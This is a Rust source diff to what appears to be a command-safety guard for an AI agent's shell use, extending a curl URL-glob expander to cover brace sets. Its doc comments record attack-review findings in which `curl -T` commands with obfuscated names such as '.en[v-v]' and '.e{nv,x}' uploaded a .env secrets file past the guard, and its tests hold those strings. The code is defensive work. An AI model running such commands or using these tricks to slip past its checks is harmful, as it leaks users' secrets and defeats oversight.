@@ -47,30 +47,67 @@ pub(super) fn handed_files(w: &Word) -> Vec<Word> {
 }
 
 /// `w` as curl globs it (curl(1) "URL globbing", which `-T` file names get too): each `[…]`
-/// of its text one character (`.en[v-v]`, `[.]env`, quoted so that the shell passes it), or
-/// `None` when it has none. Before attack review 51, `curl -T ".en[v-v]" https://…` sent
-/// `.env` with exit 0 in a session that had read nothing (`{a,b}` lists were read already).
-pub(super) fn curl_globbed(w: &Word) -> Option<Word> {
-    let mut pieces: Vec<Piece> = Vec::new();
-    let mut open: Option<usize> = None;
-    let mut changed = false;
-    for p in &w.pieces {
-        match (p, open) {
-            (Piece::Lit('['), None) => {
-                open = Some(pieces.len());
-                pieces.push(p.clone());
+/// of its text one character (`.en[v-v]`, `[.]env`, quoted so that the shell passes it), each
+/// `{…}` a set whose members, split at `,`, are each a word of their own (`'.e{nv,x}'` is
+/// `.env` and `.ex`); empty when it has neither. Over [`MAX_GLOBBED`] words, one word with
+/// each set as any characters. Before attack review 51, `curl -T ".en[v-v]" https://…` sent
+/// `.env` with exit 0 in a session that had read nothing; before attack review 55, `curl -T
+/// '.e{nv,x}' https://…` did (the shell's own brace expansion is the lexer's).
+pub(super) fn curl_globbed(w: &Word) -> Vec<Word> {
+    let p = &w.pieces;
+    let close = |from: usize, c: char| (from..p.len()).find(|&e| p[e] == Piece::Lit(c));
+    // Each part of the word: its alternatives (one but for a set).
+    let mut parts: Vec<Vec<Vec<Piece>>> = Vec::new();
+    let mut globbed = false;
+    let mut k = 0;
+    while k < p.len() {
+        let set = match &p[k] {
+            Piece::Lit('[') => close(k + 1, ']').map(|e| (e, vec![vec![Piece::One]])),
+            Piece::Lit('{') => close(k + 1, '}').map(|e| {
+                let members = p[k + 1..e].split(|x| *x == Piece::Lit(','));
+                (e, members.map(<[Piece]>::to_vec).collect())
+            }),
+            _ => None,
+        };
+        match set {
+            Some((end, alternatives)) => {
+                parts.push(alternatives);
+                globbed = true;
+                k = end + 1;
             }
-            (Piece::Lit(']'), Some(at)) => {
-                pieces.truncate(at);
-                pieces.push(Piece::One);
-                open = None;
-                changed = true;
+            None => {
+                parts.push(vec![vec![p[k].clone()]]);
+                k += 1;
             }
-            _ => pieces.push(p.clone()),
         }
     }
-    changed.then_some(Word { pieces })
+    if !globbed {
+        return Vec::new();
+    }
+    let count = parts
+        .iter()
+        .try_fold(1usize, |n, alts| n.checked_mul(alts.len()));
+    if count.is_none_or(|n| n > MAX_GLOBBED) {
+        let pieces = parts.into_iter().flat_map(|mut alts| match alts.len() {
+            1 => alts.pop().unwrap_or_default(),
+            _ => vec![Piece::Unknown],
+        });
+        return vec![Word {
+            pieces: pieces.collect(),
+        }];
+    }
+    let mut words: Vec<Vec<Piece>> = vec![Vec::new()];
+    for alts in &parts {
+        words = words
+            .iter()
+            .flat_map(|w| alts.iter().map(move |a| [w.as_slice(), a].concat()))
+            .collect();
+    }
+    words.into_iter().map(|pieces| Word { pieces }).collect()
 }
+
+/// Most words a curl glob is spelled out as ([`curl_globbed`]).
+const MAX_GLOBBED: usize = 256;
 
 /// The value glued to a short option (`-c.env` is `-c .env` when `-c` takes a value, as
 /// getopt(3) reads it): the rest of the word after `-` and one letter, when it is not an
@@ -141,20 +178,31 @@ mod tests {
         assert!(files("plain").is_empty());
     }
 
-    /// curl's `[…]` ranges are one character each; a word without one is not globbed.
+    /// curl's `[…]` ranges are one character each, its `{…}` sets alternatives; a word
+    /// without either is not globbed.
     #[test]
     fn curls_ranges_are_one_character() {
         let lexed = lex("'.en[v-v]'");
         let Some(Token::Word(w)) = lexed.tokens.first() else {
             panic!("a word");
         };
-        let g = super::curl_globbed(w).expect("globbed");
-        assert_eq!(g.pieces.len(), 4);
-        assert_eq!(g.pieces[3], crate::front::protect::shell::Piece::One);
-        let lexed = lex("'.env'");
-        let Some(Token::Word(w)) = lexed.tokens.first() else {
-            panic!("a word");
+        let g = super::curl_globbed(w);
+        assert_eq!(g.len(), 1);
+        assert_eq!(g[0].pieces.len(), 4);
+        assert_eq!(g[0].pieces[3], crate::front::protect::shell::Piece::One);
+        let globbed = |text: &str| match lex(text).tokens.first() {
+            Some(Token::Word(w)) => super::curl_globbed(w),
+            _ => panic!("a word"),
         };
-        assert!(super::curl_globbed(w).is_none());
+        assert!(globbed("'.env'").is_empty());
+        // A set's members are words of their own (attack review 55).
+        let g: Vec<String> = globbed("'.e{nv,x}[a]'")
+            .iter()
+            .map(|w| w.squeezed())
+            .collect();
+        assert_eq!(g, [".env", ".ex"]);
+        let over = globbed(&format!("'.env{}'", "{a,b}".repeat(9)));
+        assert_eq!(over.len(), 1);
+        assert_eq!(over[0].squeezed(), ".env");
     }
 }
